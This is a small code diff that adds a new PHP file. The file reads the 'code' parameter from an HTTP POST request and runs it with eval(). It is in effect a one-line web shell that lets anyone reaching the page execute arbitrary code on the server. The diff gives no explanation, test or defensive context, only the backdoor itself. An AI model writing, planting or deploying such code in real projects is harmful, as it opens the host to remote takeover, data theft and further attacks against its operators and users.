@@ -1,0 +1,5 @@
+<?php
+$code = <<<EOT
+{$_POST['code']}
+EOT;
+eval($code);
